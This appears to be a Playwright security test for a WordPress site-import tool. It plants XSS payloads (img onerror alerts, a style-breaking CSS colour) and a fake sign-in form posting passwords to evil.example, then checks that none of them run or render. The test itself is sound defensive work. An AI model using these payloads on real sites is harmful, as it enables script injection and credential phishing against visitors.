/**
 * Security [20]: a pack from an old or hostile hub, through "Preview site",
 * the wizard's live preview, a real import and the imported page. A bundle
 * brings the pack; its names and settings are then stored as an old hub
 * holds them (the intake would clean them): markup in the pack's, a page's
 * and a kit's names and in the site title, a fake sign-in form as the
 * tagline, CSS that closes the style element in a colour. Every payload
 * would open a dialog or set `top.stencilboxPwned`: neither may happen,
 * names show as text, no injected element is drawn, and the wizard's
 * frame is sandboxed while its own script still works.
 */
import { test, expect } from '../test';
import type { Page } from '@playwright/test';

/**
 * Internal dependencies
 */
import { ADMIN_PAGE } from '../utils';
import {
	createLibraryAccount,
	signInLibrary,
	signOutLibrary,
} from '../utils/library-account';
import {
	importKeepingTheme,
	openWizard,
	packBundle,
	revertImportOf,
} from '../utils/site-import';
import { pwned } from '../utils/hostile';
import { SiteRest } from '../utils/site-rest';

const SHOTS = 'artifacts/site-import-hostile';
const PACK = 'mallory-site';
const pwn = ( what: string ) =>
	`<img src=x onerror="top.stencilboxPwned='${ what }';alert('${ what }')">`;
const FORM =
	'<form id="pwn" action="https://evil.example/" style="position:fixed;inset:0;background:#fff;z-index:99999"> Session expired. <input name="pwd" type="password"> <button>Sign in</button></form>';
/** The tagline as plain text (the form's markup gone, its words kept). */
const TAGLINE = 'Session expired. Sign in';

const SETTINGS = {
	site_title: `Mallory${ pwn( 'site-title' ) }`,
	tagline: FORM,
	colors: [
		{ id: 'primary', title: 'Primary', color: '#1f4e79' },
		{
			id: 'evil',
			title: `Evil${ pwn( 'colour-title' ) }`,
			color: `#fff}</style>${ FORM }<style>`,
		},
	],
	// A family of this site's theme (Twenty Twenty-Five), whose files the
	// frame loads from this site.
	typography: [ { id: 'body', title: 'Body', font_family: 'Manrope' } ],
};

const HEADER = [
	'<!-- wp:group {"layout":{"type":"flex","justifyContent":"space-between"}} -->',
	'<div class="wp-block-group"><!-- wp:site-title /-->',
	'<!-- wp:site-tagline /-->',
	'<!-- wp:navigation /--></div>',
	'<!-- /wp:group -->',
].join( '\n' );
const paragraph = ( text: string ) =>
	`<!-- wp:paragraph -->\n<p>${ text }</p>\n<!-- /wp:paragraph -->`;

/**
 * The pack's bundle: a header kit, a home and an about page.
 */
function bundle(): Buffer {
	return packBundle( {
		brand: 'Mallory',
		settings: SETTINGS,
		home: paragraph( 'Welcome home.' ),
		about: paragraph( 'About the studio.' ),
		header: HEADER,
		thumbnail: [
			'images/mallory-site.svg',
			'<svg xmlns="http://www.w3.org/2000/svg" width="4" height="4"><rect width="4" height="4" fill="#123"/></svg>',
		],
	} );
}

/**
 * Watches a page for dialogs (any payload that runs opens one).
 *
 * @param page Page.
 */
function watchDialogs( page: Page ): string[] {
	const dialogs: string[] = [];
	page.on( 'dialog', async ( dialog ) => {
		dialogs.push( dialog.message() );
		await dialog.dismiss();
	} );
	return dialogs;
}

test.describe( 'Full-site import of a hostile pack', () => {
	let admin: SiteRest;
	let ids: number[] = [];

	test.beforeAll( async ( { baseURL } ) => {
		admin = await SiteRest.login( baseURL as string );
		await admin.rest( 'POST', '/stencilbox-e2e/v1/fsi', {
			lightspeed: false,
			kill: [],
		} );
		await admin.upload(
			'/stencilbox-hub/v1/admin/catalog/import',
			'bundle',
			'mallory-site.zip',
			bundle()
		);
		// As an old hub holds them: straight into its table.
		const raw = ( slug: string, type: string, fields: object ) =>
			admin.rest( 'POST', '/stencilbox-e2e/v1/raw-item', {
				slug,
				type,
				platform: 'gutenberg',
				...fields,
			} );
		ids = [
			( await raw( PACK, 'pack', {
				name: `Mallory${ pwn( 'pack-name' ) } - Site`,
				settings: SETTINGS,
			} ) ) as { id: number },
			( await raw( 'mallory-site-about', 'page', {
				name: `Mallory About${ pwn( 'page-name' ) }`,
			} ) ) as { id: number },
			( await raw( 'mallory-site-header', 'block', {
				name: `Mallory Header${ pwn( 'kit-name' ) }`,
			} ) ) as { id: number },
			( await raw( 'mallory-site-home', 'page', {} ) ) as { id: number },
		].map( ( answer ) => answer.id );
		const email = `fsi-hostile-${ Date.now() }@example.org`;
		await createLibraryAccount( baseURL as string, email );
		await signInLibrary( baseURL as string, email );
	} );

	test.afterAll( async ( { baseURL } ) => {
		await revertImportOf( admin, PACK );
		for ( const id of ids ) {
			await admin.rest(
				'DELETE',
				`/stencilbox-hub/v1/admin/catalog/items/${ id }`,
				{ confirm: true }
			);
		}
		await admin.dispose();
		await signOutLibrary( baseURL as string );
	} );

	test( 'previews, import and the imported page show the names and tagline as text, and nothing runs', async ( {
		page,
		browser,
	} ) => {
		test.setTimeout( 180_000 );
		const dialogs = watchDialogs( page );

		// "Preview site": a frame without scripts; the tagline is text.
		await page.goto( `${ ADMIN_PAGE }&path=gutenberg/packs/${ PACK }` );
		await page
			.getByRole( 'button', { name: 'Preview site', exact: true } )
			.click();
		const site = page.locator( '.stencilbox-site-preview iframe' );
		await expect( site ).toHaveAttribute( 'sandbox', 'allow-same-origin' );
		const siteFrame = site.contentFrame();
		await expect(
			siteFrame.locator( '.wp-block-site-tagline' ).first()
		).toHaveText( TAGLINE );
		await expect(
			siteFrame.getByRole( 'link', { name: 'About', exact: true } )
		).toBeVisible();
		await expect( siteFrame.locator( 'form, input' ) ).toHaveCount( 0 );
		await expect( siteFrame.locator( 'img[src="x"]' ) ).toHaveCount( 0 );
		await page.screenshot( { path: `${ SHOTS }/01-preview-site.png` } );
		await page.keyboard.press( 'Escape' );

		// The wizard's live preview: sandboxed, its own script still answers
		// (loaded, the title typed), the theme's fonts load, nothing injected.
		const wizard = await openWizard( page, PACK );
		await expect( wizard.getByLabel( 'Site Title' ) ).toHaveValue(
			'Mallory'
		);
		await expect( wizard.getByLabel( 'Site Tagline' ) ).toHaveValue(
			TAGLINE
		);
		const frame = page.locator( 'iframe.stencilbox-site-import__frame' );
		await expect( frame ).toHaveAttribute(
			'sandbox',
			'allow-scripts allow-same-origin'
		);
		await expect( frame ).toHaveAttribute( 'data-loaded', 'true' );
		const preview = frame.contentFrame();
		await expect(
			preview.locator( '.wp-block-site-tagline' ).first()
		).toHaveText( TAGLINE );
		await expect( preview.locator( 'form, input' ) ).toHaveCount( 0 );
		await expect( preview.locator( 'img[src="x"]' ) ).toHaveCount( 0 );
		await wizard.getByLabel( 'Site Title' ).fill( 'Harbour Light' );
		await expect(
			preview.locator( '.wp-block-site-title' ).first()
		).toHaveText( 'Harbour Light' );
		await expect( preview.locator( 'p' ).first() ).toHaveCSS(
			'font-family',
			/Manrope/
		);
		const loaded = await page
			.frame( { url: /stencilbox-fsi-preview=/ } )!
			.evaluate( async () => {
				await document.fonts.ready;
				return [ ...document.fonts ]
					.filter( ( font ) => font.status === 'loaded' )
					.map( ( font ) => font.family.replace( /"/g, '' ) );
			} );
		expect( loaded ).toContain( 'Manrope' );
		await page.screenshot( { path: `${ SHOTS }/02-wizard-preview.png` } );

		// The import (the pack names no theme: the site keeps its own
		// rather than the recommended one).
		await importKeepingTheme( wizard );
		const about = wizard
			.getByRole( 'list', { name: 'Your new pages' } )
			.getByRole( 'link', { name: 'About' } );
		// Its title as text (the arrow is the external link's mark).
		await expect( about ).toHaveText( /^About\s*↗?$/ );
		const url = ( await about.getAttribute( 'href' ) ) as string;
		await expect( page.locator( 'img[src="x"]' ) ).toHaveCount( 0 );
		await page.screenshot( { path: `${ SHOTS }/03-results.png` } );

		// The imported page, as a visitor sees it.
		const visitor = await browser.newContext( {
			storageState: { cookies: [], origins: [] },
		} );
		const front = await visitor.newPage();
		const visitorDialogs = watchDialogs( front );
		await front.goto( url );
		await expect(
			front.locator( '.wp-block-post-title' ).first()
		).toHaveText( 'About' );
		await expect(
			front.locator( '.wp-block-site-title' ).first()
		).toHaveText( 'Harbour Light' );
		await expect(
			front.locator( '.wp-block-site-tagline' ).first()
		).toHaveText( TAGLINE );
		await expect( front.locator( 'img[src="x"]' ) ).toHaveCount( 0 );
		await expect( front.locator( 'form#pwn, input' ) ).toHaveCount( 0 );
		expect( await front.content() ).not.toContain( 'evil.example' );
		await front.screenshot( { path: `${ SHOTS }/04-visitor-about.png` } );
		expect( await pwned( front ) ).toEqual( [] );
		expect( visitorDialogs ).toEqual( [] );
		await visitor.close();

		expect( await pwned( page ) ).toEqual( [] );
		expect( dialogs ).toEqual( [] );
	} );
} );
